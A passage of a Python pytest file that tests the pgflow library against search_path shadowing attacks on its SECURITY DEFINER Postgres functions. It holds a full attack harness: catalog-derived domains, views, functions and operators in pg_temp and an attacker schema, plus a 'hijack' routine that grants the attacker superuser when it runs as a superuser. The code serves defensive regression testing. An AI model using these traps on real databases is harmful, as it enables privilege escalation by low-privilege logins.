"""No object a caller creates takes part in a pgflow function (docs/security.md).

``search_path = ''`` does not protect a SECURITY DEFINER function: Postgres still searches
``pg_temp`` first for relations and types. On the released 0001 schema a login that is
only a pgflow_worker member could create ``pg_temp.text`` as a domain whose CHECK runs its
own code, and ``pgflow.fail_task`` then ran that code as the schema owner (a superuser in
most installs). Every function now runs with ``search_path = pg_catalog, pg_temp``.

Each attack is made by a LOGIN role that is only a member of pgflow_worker (or only of
pgflow_reader). It arms every trap it can:

* in ``pg_temp``, and in a schema it owns and puts first on its search_path: a domain named
  like every type the function bodies, signatures and tables use (derived from the catalog,
  plus a fixed minimum list and every alias) whose CHECK calls the attacker's ``hijack``; a
  row type with implicit casts for the pseudo-types a domain cannot wrap (``record``); a
  view named like every pgflow relation (and every unqualified name in a relation position)
  that calls ``hijack`` when read or written: a stronger trap than a table of that name;
* in its own schema: a function for every overload of every pg_catalog function the bodies
  call, an aggregate for every aggregate, and an operator for every operator they use on
  the types they use, each calling ``hijack``.

``hijack(via)`` records ``via as current_user`` in a session setting, raises a WARNING with
a unique marker and, when it runs as a superuser, makes the attacker one. The attacker then
calls every function granted to its role (found with has_function_privilege, so a newly
granted function is called too) on runs in every state. No trap may fire, the attacker must
gain nothing, and every call must return what the same calls return to a clean login of
the same role on an identical copy of the database (also with hostile session settings).
The control test runs the same attack on the 0001 schema and sees it succeed.
"""

from __future__ import annotations

import hashlib
import re
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import date, datetime
from typing import Any

import psycopg
import pytest
from psycopg import sql
from psycopg.conninfo import conninfo_to_dict, make_conninfo
from psycopg.rows import dict_row, tuple_row
from psycopg.types.json import Jsonb

from pgflow.db.schema import SchemaManager
from pgflow.migrations import migrations
from pgflow.testing import DatabaseServer, create_database, drop_database, with_database
from tests.integration.sql.helpers import define, start

Conn = psycopg.Connection[Any]
Row = dict[str, Any]
Call = Callable[..., list[Row]]

# Shadowed whatever the catalog says; aliases that are identifiers become domains too.
MINIMUM_TYPES = (
    "text", "jsonb", "json", "int", "integer", "int2", "int4", "int8", "smallint", "bigint",
    "uuid", "boolean", "bool", "numeric", "decimal", "timestamptz", "timestamp", "interval",
    "timestamp with time zone", "record", "varchar", "character varying", "char", "name",
    "regclass", "regtype", "regproc", "regprocedure", "regnamespace", "oid", "tid", "bytea",
    "float4", "float8", "real", "double precision", "date", "void", "anyelement", "anyarray",
    "text[]", "int[]",
)  # fmt: skip
MINIMUM_RELATIONS = (
    "runs", "step_tasks", "flows", "steps", "deps", "step_states", "workers", "settings",
    "schema_migrations", "claimed_task",
)  # fmt: skip
# Session settings any caller may change that could alter how SQL is parsed or evaluated.
HOSTILE_SETTINGS = (
    "plpgsql.extra_errors = 'all'", "plpgsql.extra_warnings = 'all'",
    "transform_null_equals = on", "standard_conforming_strings = off", "array_nulls = off",
    "TimeZone = 'Pacific/Chatham'", "DateStyle = 'SQL, DMY'", "IntervalStyle = 'sql_standard'",
    "extra_float_digits = -15", "plan_cache_mode = force_custom_plan",
    "pgflow.max_payload_bytes = '1'", "pgflow.read_budget_bytes = '1'",
)  # fmt: skip
IDENTIFIER = re.compile(r"^[a-z_][a-z0-9_]*$")
WORD = re.compile(r"[a-z_][a-z0-9_$]*")
CALL = re.compile(r"([a-z_][a-z0-9_$]*)\s*\(")
CAST = re.compile(r"::\s*([a-z_][a-z0-9_$]*)")
# An unqualified name where a relation goes: CTE names, and any table a body forgot to qualify.
RELATION = re.compile(
    r"\b(?:from|join|update|into|using|table|only)\s+([a-z_][a-z0-9_$]*)\b(?!\s*[.(])"
)
OPERATOR = re.compile(r"[-+*/<>=~!@#%^&|`?]+")
TIMESTAMP = re.compile(r"^\d{4}-\d{2}-\d{2}[T ]\d{2}:\d{2}")

FLOWS = ["co_main", "co_doomed"]
RUN = {key: uuid.UUID(f"0190a000-0000-7000-8000-00000000000{n}") for n, key in enumerate("abcdefg")}
WORKER = uuid.UUID("0190a000-0000-4000-8000-00000000c0de")
DEAD_WORKER = uuid.UUID("0190a000-0000-4000-8000-0000000dead0")
UNKNOWN = uuid.UUID("0190a000-0000-4000-8000-000000000bad")
BLOB = uuid.UUID("0190a000-0000-4000-8000-00000000b10b")  # a value stored by reference
BLOB_TEXT = b'{"stored": "by reference"}'
EXPECTED_ERRORS = {"pgflow_worker": set(), "pgflow_reader": {"PGF02", "PGF07"}}
ENDS = {"a": "completed", "b": "failed", "c": "completed", "d": "failed", "e": "failed",
        "g": "completed"}  # fmt: skip
FINAL_STATUSES = {"pgflow_worker": ENDS, "pgflow_reader": {**ENDS, "f": "started"}}


# --- the traps -----------------------------------------------------------------------------

HIJACK = (
    """
    create function {s}.hijack(via pg_catalog.text) returns pg_catalog.bool
    language plpgsql set search_path = pg_catalog, pg_temp as $f$
    begin
      perform pg_catalog.set_config('attack.hijacked', pg_catalog.concat_ws(' | ',
        nullif(pg_catalog.current_setting('attack.hijacked', true), ''),
        pg_catalog.format('%s as %s', via, current_user)), false);
      raise warning '{marker} via % as %', via, current_user;
      if (select r.rolsuper from pg_catalog.pg_roles r where r.rolname = current_user) then
        execute pg_catalog.format('alter role %I superuser', {attacker});
      end if;
      return true;
    end
    $f$
    """,
    """
    create function {s}.hijack_dml() returns trigger
    language plpgsql set search_path = pg_catalog, pg_temp as $f$
    begin
      perform {s}.hijack(pg_catalog.format('relation %s %s', tg_table_name, tg_op));
      return null;
    end
    $f$
    """,
    "create domain {s}.hijack_marker as pg_catalog.text check ({s}.hijack('a row type'))",
)
# Creates the traps in one round trip; a trap Postgres refuses is reported, not fatal.
TRY_ALL = """
create function pg_temp.try_all(statements pg_catalog.text[]) returns pg_catalog.text[]
language plpgsql set search_path = pg_catalog, pg_temp as $f$
declare
  s pg_catalog.text;
  failed pg_catalog.text[] := '{}';
begin
  foreach s in array statements loop
    begin
      execute s;
    exception when others then
      failed := failed || (s || ' -- ' || sqlerrm);
    end;
  end loop;
  return failed;
end
$f$
"""
BODIES = """
select string_agg(prosrc, ' ') as src from pg_proc where pronamespace = 'pgflow'::regnamespace
"""
USED_TYPES = """
with used(oid) as (
  select t.oid from pg_type t
  where t.typnamespace = 'pg_catalog'::regnamespace and t.typname = any(%(words)s)
  union
  select unnest(p.proargtypes::oid[] || coalesce(p.proallargtypes, '{}') || p.prorettype)
  from pg_proc p where p.pronamespace = 'pgflow'::regnamespace
  union
  select a.atttypid from pg_attribute a join pg_class c on c.oid = a.attrelid
  where c.relnamespace = 'pgflow'::regnamespace and a.attnum > 0 and not a.attisdropped
  union
  select to_regtype(n)::oid from unnest(%(minimum)s::text[]) as n
), closed(oid) as (
  select u.oid from used u
  union select t.typelem from pg_type t join used u on u.oid = t.oid
  where t.typlen = -1 and t.typelem <> 0
)
select t.oid, t.typname, t.typtype, format_type(t.oid, null) as spelled
from pg_type t join closed c on c.oid = t.oid
where t.typnamespace = 'pg_catalog'::regnamespace
order by t.typname
"""
CALLED_FUNCTIONS = """
select p.oid, p.proname, p.prokind, pg_get_function_arguments(p.oid) as args,
  pg_get_function_identity_arguments(p.oid) as identity, pg_get_function_result(p.oid) as result,
  p.proretset or coalesce(p.proargmodes && '{o,b,t}'::"char"[], false) as bare_return
from pg_proc p
where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind in ('f', 'a', 'w')
  and p.proname = any(%(calls)s)
  and not exists (select 1 from pg_aggregate a where a.aggfnoid = p.oid and a.aggkind <> 'n')
order by p.proname, p.oid
"""
USED_OPERATORS = """
select o.oid, o.oprname, format_type(nullif(o.oprleft, 0), null) as left_type,
  format_type(o.oprright, null) as right_type, format_type(o.oprresult, null) as result
from pg_operator o
where o.oprnamespace = 'pg_catalog'::regnamespace and o.oprname = any(%(names)s)
  and (o.oprleft = 0 or o.oprleft = any(%(types)s)
       or o.oprleft in (select oid from pg_type where typtype = 'p'))
  and (o.oprright = any(%(types)s) or o.oprright in (select oid from pg_type where typtype = 'p'))
order by o.oid
"""
RELATIONS = """
select n.name, exists (select 1 from pg_type t where t.typnamespace = 'pgflow'::regnamespace
                       and t.typname = n.name and t.typtype = 'c') as has_rowtype
from (select c.relname::text as name from pg_class c
      where c.relnamespace = 'pgflow'::regnamespace and c.relkind in ('r', 'p', 'v', 'm', 'c')
      union select unnest(%(names)s::text[])) as n
order by n.name
"""


@dataclass
class Traps:
    """The DDL that arms every trap in one schema (``pg_temp`` or the attacker's own)."""

    admin: Conn
    schema: str
    attacker: str
    marker: str
    statements: list[str] = field(default_factory=list)

    def add(self, template: str, **parts: Any) -> None:
        names = {"s": sql.Identifier(self.schema), **parts}
        self.statements.append(sql.SQL(template).format(**names).as_string(self.admin))

    def plpgsql(self, name: str, args: str, result: str, via: str, ret: str = "null") -> None:
        """A function that calls ``hijack(via)`` and returns ``ret`` (empty: bare return)."""
        self.add(
            f"create function {{s}}.{{name}}({_braces(args)}) returns {_braces(result)} "
            f"language plpgsql as $f$begin perform {{s}}.hijack({{via}}); return {ret}; end$f$",
            name=sql.Identifier(name), via=sql.Literal(via),
        )  # fmt: skip

    def hijack(self) -> None:
        for template in HIJACK:
            self.add(template, marker=sql.SQL(self.marker), attacker=sql.Literal(self.attacker))

    def types(self, used: list[Row], aliases: list[str]) -> None:
        """A domain named like every used type and alias (over text for a name that is no
        type at all); for a pseudo-type, a row type with implicit casts to and from text."""
        spelled = {t["typname"]: (t["typtype"], t["spelled"]) for t in used}
        for alias in filter(IDENTIFIER.match, aliases):
            if alias not in spelled:
                cur = self.admin.cursor(row_factory=tuple_row)
                row = cur.execute("select format_type(to_regtype(%s), null)", [alias]).fetchone()
                spelled[alias] = ("b", (row and row[0]) or "text")
        for name, (kind, base) in sorted(spelled.items()):
            ident, via = sql.Identifier(name), sql.Literal(f"type {name}")
            if kind != "p":
                domain = f"create domain {{s}}.{{name}} as {_braces(base)} "
                self.add(domain + "check ({s}.hijack({via}))", name=ident, via=via)
                continue
            self.add("create type {s}.{name} as (hijacked {s}.hijack_marker)", name=ident)
            mine = f'"{self.schema}"."{name}"'
            for fn, source, target in ((f"{name}_to_text", mine, "text"),
                                       (f"{name}_from_text", "text", mine)):  # fmt: skip
                self.plpgsql(fn, source, target, f"cast type {name}")
                self.add(f"create cast ({source} as {target}) with function {{s}}.{{fn}}"
                         f"({source}) as implicit", fn=sql.Identifier(fn))  # fmt: skip

    def relations(self, relations: list[Row]) -> None:
        """A view named like every relation, calling ``hijack`` when read or written."""
        for rel in relations:
            name, rows = sql.Identifier(rel["name"]), sql.Identifier(f"rows_of_{rel['name']}")
            via = sql.Literal(f"relation {rel['name']} read")
            if rel["has_rowtype"]:  # the real columns, so a read of it would succeed
                self.add("create function {s}.{rows}() returns setof pgflow.{name} language "
                         "plpgsql as $f$begin perform {s}.hijack({via}); end$f$",
                         rows=rows, name=name, via=via)  # fmt: skip
                view = "create view {s}.{name} as select * from {s}.{rows}()"
                self.add(view, name=name, rows=rows)
            else:
                self.add("create view {s}.{name} as select {s}.hijack({via}) as hijacked",
                         name=name, via=via)  # fmt: skip
            self.add("create trigger hijack instead of insert or update or delete on {s}.{name} "
                     "for each row execute function {s}.hijack_dml()", name=name)  # fmt: skip

    def functions(self, called: list[Row]) -> None:
        """Every overload of every function the bodies call; aggregates as aggregates."""
        for fn in called:
            via = f"function {fn['proname']}({fn['identity']})"
            if fn["prokind"] == "f":
                ret = "" if fn["bare_return"] or fn["result"] == "void" else "null"
                self.plpgsql(fn["proname"], _any(fn["args"]), fn["result"], via, ret)
                continue
            step, state, args = f"step_of_{fn['oid']}", fn["result"], _any(fn["identity"])
            step_args = ", ".join(filter(None, [f"state {state}", args]))
            self.plpgsql(step, step_args, state, via, "state")
            self.add(f"create aggregate {{s}}.{{name}}({_braces(args) or '*'}) "
                     f"(sfunc = {{s}}.{{step}}, stype = {_braces(state)})",
                     name=sql.Identifier(fn["proname"]), step=sql.Identifier(step))  # fmt: skip

    def operators(self, operators: list[Row]) -> None:
        """Every operator the bodies use, on the types they use."""
        for op in operators:
            fn = f"operator_{op['oid']}"
            args = ", ".join(filter(None, [op["left_type"], op["right_type"]]))
            self.plpgsql(fn, args, op["result"], f"operator {op['oprname']}")
            left = f"leftarg = {op['left_type']}, " if op["left_type"] else ""
            self.add(f"create operator {{s}}.{op['oprname']} ({_braces(left)}rightarg = "
                     f"{_braces(op['right_type'])}, function = {{s}}.{{fn}})",
                     fn=sql.Identifier(fn))  # fmt: skip


def _braces(text: str) -> str:
    """Catalog text spliced into an ``sql.SQL`` template must not be read as placeholders."""
    return text.replace("{", "{{").replace("}", "}}")


def _any(args: str) -> str:
    """plpgsql cannot take ``"any"``: the closest signature a caller can declare."""
    return args.replace('VARIADIC "any"', "VARIADIC anycompatiblearray").replace(
        '"any"', "anycompatible"
    )


def trap_statements(admin: Conn, attack_schema: str, attacker: str, marker: str) -> list[str]:
    """Every trap, in ``pg_temp`` and in the attacker's schema, derived from the catalog:
    the words, calls, casts and operators of every pgflow function body, the types of every
    pgflow signature and column, pgflow's relations, and the minimum lists."""
    cur = admin.cursor(row_factory=dict_row)
    bodies = cur.execute(BODIES).fetchone()
    src = bodies["src"].lower() if bodies else ""
    words, calls = sorted(set(WORD.findall(src))), sorted(set(CALL.findall(src)))
    used = cur.execute(USED_TYPES, {"words": words, "minimum": list(MINIMUM_TYPES)}).fetchall()
    names = sorted({*MINIMUM_RELATIONS, *RELATION.findall(src)})
    relations = cur.execute(RELATIONS, {"names": names}).fetchall()
    called = cur.execute(CALLED_FUNCTIONS, {"calls": calls}).fetchall()
    operators = cur.execute(
        USED_OPERATORS,
        {"names": sorted(set(OPERATOR.findall(src))), "types": [t["oid"] for t in used]},
    ).fetchall()
    statements: list[str] = []
    for schema in ("pg_temp", attack_schema):
        traps = Traps(admin, schema, attacker, marker)
        traps.hijack()
        traps.relations(relations)
        traps.types(used, sorted({*MINIMUM_TYPES, *CAST.findall(src)}))
        if schema != "pg_temp":  # pg_temp is never searched for functions and operators
            traps.functions(called)
            traps.operators(operators)
        statements += traps.statements
    return statements


# --- sessions, scenarios and results -------------------------------------------------------


CLOCK_FIELDS = frozenset({"claim_lag"})


def normalise(value: Any) -> Any:
    """Results without the clock: timestamps (native or inside JSON) and durations measured
    on the clock (``claim_lag``) become ``<time>``."""
    if isinstance(value, dict):
        return {k: "<time>" if k in CLOCK_FIELDS else normalise(v) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return [normalise(v) for v in value]
    if isinstance(value, datetime | date) or (isinstance(value, str) and TIMESTAMP.match(value)):
        return "<time>"
    return value


@dataclass
class Session:
    """Calls pgflow functions over one connection and records what each returned."""

    conn: Conn
    log: list[tuple[Any, ...]] = field(default_factory=list)
    called: set[str] = field(default_factory=set)

    def __call__(self, function: str, statement: str, *params: Any) -> list[Row]:
        self.called.add(function)
        try:  # binary results: a caller's DateStyle or IntervalStyle must not trip the driver
            with self.conn.cursor(row_factory=dict_row, binary=True) as cur:
                rows = cur.execute(statement.encode(), params).fetchall()
        except psycopg.Error as exc:
            self.log.append((function, "error", exc.sqlstate, exc.diag.message_primary))
            return []
        self.log.append((function, sorted((normalise(r) for r in rows), key=repr)))
        return rows

    def errors(self) -> set[str | None]:
        return {entry[2] for entry in self.log if entry[1] == "error"}


CLAIM = "select * from pgflow.claim_tasks(%s, %s, %s)"


def claim(call: Call) -> Callable[..., Row]:
    """Claim everything claimable; look a task up by (run key, step, index). A task that
    was not claimed is reported with attempt -1 (so the report changes nothing)."""
    rows = call("claim_tasks", CLAIM, FLOWS, WORKER, 50)
    by_key = {(r["run_id"], r["step_slug"], r["task_index"]): r for r in rows}

    def task(run: str, step: str, index: int = 0) -> Row:
        missing = {"run_id": RUN[run], "step_slug": step, "task_index": index, "attempt": -1}
        return by_key.get((RUN[run], step, index), missing)

    return task


def complete(call: Call, task: Row, output: Any, attempt: int | None = None) -> None:
    call("complete_task", "select * from pgflow.complete_task(%s, %s, %s, %s, %s)",
         task["run_id"], task["step_slug"], task["task_index"], Jsonb(output),
         task["attempt"] if attempt is None else attempt)  # fmt: skip


def complete_many(call: Call, *done: tuple[Row, Any]) -> None:
    call("complete_tasks", "select * from pgflow.complete_tasks(%s, %s, %s, %s, %s)",
         [t["run_id"] for t, _ in done], [t["step_slug"] for t, _ in done],
         [t["task_index"] for t, _ in done], [Jsonb(o) for _, o in done],
         [t["attempt"] for t, _ in done])  # fmt: skip


def fail(call: Call, task: Row, message: str, error_type: str | None = None) -> None:
    call("fail_task", "select * from pgflow.fail_task(%s, %s, %s, %s, %s, %s, %s)",
         task["run_id"], task["step_slug"], task["task_index"], message, task["attempt"],
         error_type, "Traceback ..." if error_type else None)  # fmt: skip


def fail_many(call: Call, task: Row, message: str, error_type: str) -> None:
    call("fail_tasks", "select * from pgflow.fail_tasks(%s, %s, %s, %s, %s, %s, %s)",
         [task["run_id"]], [task["step_slug"]], [task["task_index"]], [message],
         [task["attempt"]], [error_type], ["Traceback ..."])  # fmt: skip


def worker_scenario(call: Call) -> None:
    """Every worker function, moving six runs to their ends: claims (the first expires a
    dead worker's lease), completions (single, batch, stale), a map over an array, over []
    and over a non-array (TYPE_VIOLATION), failures (retried, final), a release."""
    call("register_worker", "select * from pgflow.register_worker(%s, %s, %s, %s)",
         WORKER, FLOWS, "trap-host", 4242)  # fmt: skip
    call("heartbeat", "select pgflow.heartbeat(%s) as alive", WORKER)
    task = claim(call)
    held = task("a", "root")
    call("task_flow_input", "select pgflow.task_flow_input(%s, %s, %s, %s) as input",
         held["run_id"], held["step_slug"], held["task_index"], held["attempt"])  # fmt: skip
    complete(call, task("a", "root"), [1, 2])
    complete(call, task("a", "root"), "late", attempt=9)  # stale: changes nothing
    complete_many(call, (task("b", "root"), {"not": "an array"}), (task("c", "root"), []),
                  (task("g", "root"), []))  # fmt: skip
    fail(call, task("d", "only"), "boom", "ValueError")
    fail_many(call, task("e", "only"), "bang", "KeyError")
    task = claim(call)
    fail(call, task("a", "fan", 0), "flaky")  # retried
    ref = store_value(call, RUN["c"])
    complete_many(call, (task("c", "leaf"), ref), (task("g", "leaf"), "g done"))
    running = [task("a", "fan", 0), task("c", "leaf")]  # both reported: both named
    call("cancelled_attempts", "select * from pgflow.cancelled_attempts(%s, %s, %s, %s)",
         [t["run_id"] for t in running], [t["step_slug"] for t in running],
         [t["task_index"] for t in running], [t["attempt"] for t in running])  # fmt: skip
    call("release_tasks", "select pgflow.release_tasks(%s) as released", WORKER)
    task = claim(call)
    complete_many(call, (task("a", "fan", 0), 10), (task("a", "fan", 1), 20))
    complete(call, claim(call)("a", "leaf"), {"sum": 30})
    call("heartbeat", "select pgflow.heartbeat(%s) as alive", WORKER)
    call("worker_stopped", "select pgflow.worker_stopped(%s)::pg_catalog.text as stopped", WORKER)


def store_value(call: Call, run_id: uuid.UUID) -> Any:
    """Store a value by reference for a run, read it back, and return its reference; the
    tombstone functions of external stores too (nothing to delete here)."""
    call("value_limits", "select * from pgflow.value_limits()")
    call("put_blob_chunk", "select pgflow.put_blob_chunk(%s, %s, 0, %s)::pg_catalog.text as x",
         run_id, BLOB, BLOB_TEXT)  # fmt: skip
    sealed = call("seal_blob", "select pgflow.seal_blob(%s, %s, %s, %s, %s) as ref", run_id,
                  BLOB, len(BLOB_TEXT), hashlib.sha256(BLOB_TEXT).hexdigest(), "pg")  # fmt: skip
    call("read_blob", "select * from pgflow.read_blob(%s, %s, %s, %s)", run_id, BLOB, 0, 4)
    call("blob_tombstones", "select * from pgflow.blob_tombstones(%s, %s)", "fs", 10)
    call("forget_blob_tombstones", "select pgflow.forget_blob_tombstones(%s, %s, %s) as n",
         "fs", [run_id], [BLOB])  # fmt: skip
    return sealed[0]["ref"] if sealed else "c done"  # (the released 0001 has no blobs)


def reader_scenario(call: Call) -> None:
    """Every reader function on runs in every state, and on unknown ids and slugs."""
    call("value_limits", "select * from pgflow.value_limits()")
    call("read_blob", "select * from pgflow.read_blob(%s, %s, %s, %s)", RUN["c"], BLOB, 0, 4)
    for run_id in [*RUN.values(), UNKNOWN]:
        call("get_run_with_states", "select pgflow.get_run_with_states(%s) as run", run_id)
    for flow in [*FLOWS, "co_missing"]:
        shape = call("get_flow_shape", "select pgflow.get_flow_shape(%s) as shape", flow)
        call("flow_checksum", "select pgflow.flow_checksum(%s) as checksum", flow)
        for row in shape:
            checksum = "select pgflow.shape_checksum(%s) as checksum"
            call("shape_checksum", checksum, Jsonb(row["shape"]))
    for slug in ("co_main", "1bad", "run", ""):
        call("is_valid_slug", "select pgflow.is_valid_slug(%s) as valid", slug)


SCENARIOS = {"pgflow_worker": worker_scenario, "pgflow_reader": reader_scenario}
SAMPLES = {
    "uuid": RUN["a"], "text": "co_main", "int4": 1, "int8": 1, "jsonb": Jsonb({"k": 1}),
    "bool": True, "interval": "1 day", "_uuid": [RUN["a"]], "_text": FLOWS, "_int4": [0],
    "_jsonb": [Jsonb({"k": 1})],
}  # fmt: skip


def granted(admin: Conn, role: str) -> list[Row]:
    """The pgflow functions ``role`` may execute, with their argument type names."""
    cur = admin.cursor(row_factory=dict_row)
    return cur.execute(
        """
        select p.proname, array(
          select t.typname from unnest(p.proargtypes::oid[]) with ordinality as a(oid, n)
          join pg_type t on t.oid = a.oid order by a.n) as types
        from pg_proc p where p.pronamespace = 'pgflow'::regnamespace
          and has_function_privilege(%s, p.oid, 'execute')
        order by p.proname
        """,
        [role],
    ).fetchall()


def exercise(session: Session, admin: Conn, role: str) -> None:
    """The role's scenario, then every granted function it did not call, with sample values
    (argument types qualified: the caller's own ``text`` is a trap too)."""
    SCENARIOS[role](session)
    for fn in granted(admin, role):
        if fn["proname"] not in session.called:
            args = ", ".join(f"%s::pg_catalog.{t.lstrip('_')}{'[]' * t.startswith('_')}"
                             for t in fn["types"])  # fmt: skip
            statement = f"select * from pgflow.{fn['proname']}({args})"
            session(fn["proname"], statement, *(SAMPLES.get(t) for t in fn["types"]))


def seed(admin: Conn, role: str) -> None:
    """Two flows (a map, a skipped condition, a fan-in; one that fails at once) and six
    runs, one held by a dead worker whose lease ran out. The reader gets them after the
    worker scenario, plus a seventh run with a task in flight."""
    define(admin, "co_main", ("root", []), ("fan", ["root"], {"step_type": "map"}),
           ("cond", ["root"], {"required_input_pattern": {"never": True}}), ("leaf", ["fan"]),
           max_attempts=2, base_delay=0)  # fmt: skip
    define(admin, "co_doomed", ("only", []), max_attempts=1)
    start(admin, "co_main", {"run": "g"}, RUN["g"])
    (held,) = admin.execute(CLAIM, [["co_main"], DEAD_WORKER, 1]).fetchall()
    assert held[0] == RUN["g"]
    admin.execute(
        "update pgflow.step_tasks set started_at = now() - interval '2 minutes', "
        "leased_until = now() - interval '1 minute' where run_id = %s",
        [RUN["g"]],
    )
    for key in "abc":
        start(admin, "co_main", {"run": key}, RUN[key])
    for key in "de":
        start(admin, "co_doomed", {"run": key}, RUN[key])
    if role == "pgflow_reader":
        worker_scenario(Session(admin))
        start(admin, "co_main", {"run": "f"}, RUN["f"])
        admin.execute(CLAIM, [FLOWS, WORKER, 1])


def statuses(url: str) -> dict[str, str]:
    keys = {run_id: key for key, run_id in RUN.items()}
    with psycopg.connect(url) as conn:
        return {keys[r]: s for r, s in conn.execute("select run_id, status from pgflow.runs")}


def state(url: str) -> list[Any]:
    """Every runtime row of a database, without the clock."""
    with psycopg.connect(url, row_factory=dict_row) as conn:
        tables = ("runs", "step_states", "step_tasks", "workers")
        return [normalise(conn.execute(f"table pgflow.{t} order by 1, 2").fetchall())
                for t in tables]  # fmt: skip


# --- roles and attacks ---------------------------------------------------------------------


@contextmanager
def login(url: str, member_of: str) -> Iterator[tuple[str, str]]:
    """A LOGIN role that is only a member of ``member_of``: yields (name, URL)."""
    name = f"pgflow_atk_{uuid.uuid4().hex[:10]}"
    with psycopg.connect(url, autocommit=True) as admin:
        admin.execute(sql.SQL("create role {} login in role {}").format(
            sql.Identifier(name), sql.Identifier(member_of)))  # fmt: skip
    try:
        yield name, make_conninfo(url, user=name)
    finally:
        drop_login(url, name)


def drop_login(url: str, name: str) -> None:
    """End the role's sessions (a backend drops its pg_temp objects before it leaves), drop
    its schemas (casts have no owner: DROP OWNED cannot drop one whose function it owns),
    whatever else it owns in the database of ``url``, and the role."""
    with psycopg.connect(url, autocommit=True) as admin:
        alive = "select pg_terminate_backend(pid) from pg_stat_activity where usename = %s"
        for _ in range(250):
            if not admin.execute(alive, [name]).rowcount:
                break
            time.sleep(0.02)
        owned = "select nspname from pg_namespace where nspowner = %s::regrole"
        for (schema,) in admin.execute(owned, [name]).fetchall():
            admin.execute(sql.SQL("drop schema {} cascade").format(sql.Identifier(schema)))
        admin.execute(sql.SQL("drop owned by {}").format(sql.Identifier(name)))
        admin.execute(sql.SQL("drop role {}").format(sql.Identifier(name)))


@dataclass
class Attack:
    """What an attacker's session saw: its calls, the trap markers and its privileges."""

    session: Session
    armed: str  # traps fired by the attacker's own statements (proves they are live)
    fired: str  # traps fired since then, by the pgflow functions it called
    warnings: list[str]
    failed: list[str]
    temp_types: set[str]
    privileges: Row


def attack(
    url: str, admin_url: str, name: str, role: str, settings: tuple[str, ...] = ()
) -> Attack:
    """Arm every trap as ``name``, apply ``settings``, call every function granted to
    ``role``; report what fired and what the attacker holds afterwards."""
    marker, schema = f"HIJACKED-{uuid.uuid4().hex[:8]}", f"attack_{uuid.uuid4().hex[:8]}"
    warnings: list[str] = []
    with (
        psycopg.connect(admin_url, autocommit=True, row_factory=dict_row) as admin,
        psycopg.connect(url, autocommit=True) as conn,
    ):
        admin.execute(sql.SQL("create schema {} authorization {}").format(
            sql.Identifier(schema), sql.Identifier(name)))  # fmt: skip
        conn.add_notice_handler(lambda d: warnings.append(d.message_primary or ""))
        failed = arm(conn, trap_statements(admin, schema, name, marker), schema)
        armed = _fired(conn)
        conn.execute("select pg_catalog.set_config('attack.hijacked', '', false)")
        warnings.clear()
        for setting in settings:
            conn.execute(f"set {setting}")
        session = Session(conn)
        exercise(session, admin, role)
        fired = _fired(conn)
        temp = conn.execute("select pg_catalog.pg_my_temp_schema()").fetchone()[0]  # type: ignore[index]
        types = admin.execute("select typname from pg_type where typnamespace = %s", [temp])
        privileges = privileges_of(admin, name)
        temp_types = {r["typname"] for r in types}
    hits = [w for w in warnings if marker in w]
    return Attack(session, armed, fired, hits, failed, temp_types, privileges)


def arm(conn: Conn, statements: list[str], schema: str) -> list[str]:
    """Create the traps (returning those Postgres refused), put the attacker's schema first
    on its search_path (pg_temp, left out, stays in front for relations and types) and
    probe the traps with the attacker's own statements."""
    conn.execute("set search_path = pg_catalog, pg_temp")
    conn.execute(TRY_ALL)
    failed: list[str] = conn.execute("select pg_temp.try_all(%s)", [statements]).fetchone()[0]  # type: ignore[index]
    conn.execute(sql.SQL("set search_path = {}, pg_catalog").format(sql.Identifier(schema)))
    for probe in ("'x'::text", "now()", "'{}'::jsonb @> '{}'::jsonb", "* from runs"):
        conn.execute(f"select {probe}")
    return failed


def _fired(conn: Conn) -> str:
    row = conn.execute("select pg_catalog.current_setting('attack.hijacked', true)").fetchone()
    return str(row[0] or "") if row else ""


def privileges_of(admin: Conn, name: str) -> Row:
    row: Row | None = admin.execute(
        """
        select r.rolsuper, r.rolcreaterole, r.rolcreatedb, r.rolbypassrls, r.rolreplication,
          array(select m.roleid::regrole::text from pg_auth_members m
                where m.member = r.oid order by 1) as member_of,
          (select count(*) from pg_class c where c.relowner = r.oid
             and c.relnamespace = 'pgflow'::regnamespace)
          + (select count(*) from pg_proc p where p.proowner = r.oid
             and p.pronamespace = 'pgflow'::regnamespace)
          + (select count(*) from pg_namespace n where n.nspowner = r.oid
             and n.nspname = 'pgflow') as pgflow_objects_owned
        from pg_roles r where r.rolname = %s
        """,
        [name],
    ).fetchone()
    assert row is not None
    return row


def baseline(url: str, role: str) -> Session:
    """The same calls by a clean login of ``role``: what a normal call returns."""
    with login(url, role) as (_, clean_url), psycopg.connect(clean_url, autocommit=True) as conn:
        session = Session(conn)
        with psycopg.connect(url, autocommit=True) as admin:
            exercise(session, admin, role)
        return session


@dataclass
class Twins:
    """A seeded database and an identical copy of it, made before anyone touched them."""

    url: str
    copy_url: str


@pytest.fixture
def twins(db_url: str, pgflow_server: DatabaseServer, role: str) -> Iterator[Twins]:
    with psycopg.connect(db_url, autocommit=True) as admin:
        seed(admin, role)
    name = str(conninfo_to_dict(db_url)["dbname"])
    create_database(pgflow_server.admin_url, f"{name}_copy", template=name)
    try:
        yield Twins(db_url, with_database(db_url, f"{name}_copy"))
    finally:
        drop_database(pgflow_server.admin_url, f"{name}_copy")


# --- tests ---------------------------------------------------------------------------------


def test_every_function_searches_pg_catalog_first_and_pg_temp_last(conn: Any) -> None:
    rows = conn.execute(
        """
        select p.oid::regprocedure::text as function,
          (select string_to_array(replace(substr(c, 13), ' ', ''), ',')
           from unnest(p.proconfig) as c where c like 'search_path=%%') as path
        from pg_proc p where p.pronamespace = 'pgflow'::regnamespace
          -- inlined, hence no SET clause; its body is checked in tests/integration/testing
          and p.oid <> 'pgflow._now()'::regprocedure
        """
    ).fetchall()
    assert len(rows) > 40
    wrong = {
        r["function"]: r["path"]
        for r in rows
        if not r["path"] or r["path"][0] != "pg_catalog" or r["path"][-1] != "pg_temp"
        or not set(r["path"]) <= {"pg_catalog", "pgflow", "pg_temp"}
    }  # fmt: skip
    assert wrong == {}
    grantees = conn.execute(
        "select distinct a.grantee::regrole::text as role from pg_proc p, aclexplode(p.proacl) a "
        "where p.pronamespace = 'pgflow'::regnamespace and a.grantee <> p.proowner"
    ).fetchall()
    assert {r["role"] for r in grantees} == set(SCENARIOS)  # every role the attacks cover


@pytest.mark.parametrize("settings", [(), HOSTILE_SETTINGS], ids=["objects", "and-settings"])
